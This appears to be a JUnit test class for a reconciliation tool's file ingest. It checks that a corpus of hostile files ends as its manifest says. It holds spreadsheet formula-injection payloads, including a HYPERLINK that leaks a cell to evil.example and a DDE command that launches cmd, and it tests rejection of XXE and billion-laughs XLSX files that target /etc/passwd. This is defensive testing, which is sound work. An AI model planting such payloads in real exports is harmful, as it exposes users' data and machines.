package recon.ingest;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import recon.domain.FileOutcome;

/**
 * The checked-in hostile corpus (src/test/resources/hostile): every file ends as its manifest
 * (expected.csv) says, and none makes {@link FileIngest#read} throw. Formula payloads are data: they
 * are kept as inert text here; neutralizing them is the job of the reports that write them out.
 */
class HostileCorpusTest {
    private static final Path CORPUS = Path.of("src/test/resources/hostile");
    private static final String MANIFEST = "expected.csv";
    private static final List<String> FORMULAS =
            List.of("=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"点我\")", "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3");

    /** One line of the manifest: what one file (or one member of a ZIP) must end as. */
    record Expected(String file, String outcome, String status, String kind, int line, String message) {
        static Expected parse(String csvLine) {
            String[] f = csvLine.split(",", 6);
            return new Expected(f[0], f[1].isEmpty() ? f[0] : f[1], f[2], f[3], Integer.parseInt(f[4]), f[5]);
        }
    }

    static Stream<Map.Entry<String, List<Expected>>> manifest() {
        try {
            Map<String, List<Expected>> byFile = Files.readAllLines(CORPUS.resolve(MANIFEST), UTF_8).stream()
                    .filter(l -> !l.isBlank() && !l.startsWith("#"))
                    .map(Expected::parse)
                    .collect(Collectors.groupingBy(Expected::file, LinkedHashMap::new, Collectors.toList()));
            return byFile.entrySet().stream();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static Collected ingest(String file) {
        try {
            return Collected.ingest(file, Files.readAllBytes(CORPUS.resolve(file)));
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("manifest")
    void endsAsTheManifestSays(Map.Entry<String, List<Expected>> file) {
        // when
        Collected got = ingest(file.getKey());

        // then
        assertThat(got.outcomes).extracting(FileOutcome::name)
                .containsExactlyElementsOf(file.getValue().stream().map(Expected::outcome).toList());
        for (int i = 0; i < got.outcomes.size(); i++) {
            FileOutcome outcome = got.outcomes.get(i);
            Expected expected = file.getValue().get(i);
            assertThat(outcome.status()).as(outcome.toString()).isEqualTo(expected.status());
            assertThat(outcome.kind().name()).as(outcome.toString()).isEqualTo(expected.kind());
            assertThat(outcome.line()).as(outcome.toString()).isEqualTo(expected.line());
            if (outcome.accepted()) {
                assertThat(outcome.error()).isNull();
            } else {
                assertThat(outcome.error()).contains(expected.message());
            }
        }
    }

    @Test
    void manifestNamesEveryFileOfTheCorpus() throws IOException {
        try (Stream<Path> files = Files.list(CORPUS)) {
            List<String> names = files.map(p -> p.getFileName().toString()).filter(n -> !n.equals(MANIFEST)).toList();
            assertThat(manifest().map(Map.Entry::getKey).toList()).containsExactlyInAnyOrderElementsOf(names);
        }
    }

    @Test
    void corpusStaysSmall() throws IOException {
        try (Stream<Path> files = Files.list(CORPUS)) {
            long bytes = files.mapToLong(p -> p.toFile().length()).sum();
            assertThat(bytes).isLessThan(256 * 1024);
        }
    }

    @Test
    void finishesEveryStartedFileAndSaysWhyItWasRejected() {
        manifest().forEach(file -> {
            Collected got = ingest(file.getKey());
            assertThat(got.started).hasSameSizeAs(got.outcomes);
            got.outcomes.stream().filter(o -> !o.accepted())
                    .forEach(o -> assertThat(o.error()).as(o.name()).isNotBlank());
        });
    }

    @Test
    void keepsFormulaPayloadsInOrdersAsInertText() {
        Collected got = ingest("formulas-orders.csv");

        assertThat(got.outcome().accepted()).isTrue();
        assertThat(got.orders).extracting(o -> o.category()).containsExactlyElementsOf(FORMULAS);
        assertThat(got.orders).allSatisfy(o -> assertThat(o.invoiceRequested()).isTrue());
    }

    @Test
    void keepsFormulaPayloadsInLedgerAsInertText() {
        Collected got = ingest("formulas-ledger.csv");

        assertThat(got.outcome().accepted()).isTrue();
        assertThat(got.lines).extracting(l -> l.businessType()).containsExactlyElementsOf(FORMULAS);
        // "-2+3" is a memo, not an amount: the expense stays the 1.00 written in its column
        assertThat(got.lines).allSatisfy(l -> assertThat(l.expenseFen()).isEqualTo(100));
        assertThat(got.lines).allSatisfy(l -> assertThat(l.orderId()).isNull());
    }

    @Test
    void keepsFormulaPayloadsInRefundIdsAsInertText() {
        Collected got = ingest("formulas-refunds.csv");

        assertThat(got.outcome().accepted()).isTrue();
        assertThat(got.refunds).extracting(r -> r.refundId()).containsExactlyElementsOf(FORMULAS);
    }

    @Test
    void acceptsFormulaPayloadsInItemReport() {
        Collected got = ingest("formulas-items.csv");

        assertThat(got.outcome().accepted()).isTrue();
        assertThat(got.outcome().rows()).isEqualTo(FORMULAS.size());
    }

    @Test
    void neverResolvesExternalEntitiesInXlsx() throws IOException {
        String passwd = Files.exists(Path.of("/etc/passwd")) ? Files.readString(Path.of("/etc/passwd")) : "root:x:0:0";
        String firstEntry = passwd.lines().findFirst().orElse("root:x:0:0");
        for (String file : List.of("xxe-sheet.xlsx", "xxe-shared-strings.xlsx", "billion-laughs.xlsx")) {
            Collected got = ingest(file);

            assertThat(got.outcome().accepted()).as(file).isFalse();
            String everything = got.outcomes + " " + got.orders + " " + got.lines + " " + got.refunds;
            assertThat(everything).doesNotContain(firstEntry).doesNotContain("root:").doesNotContain("aaaaaaaaaa");
            assertThat(got.orders).isEmpty();
        }
    }
}
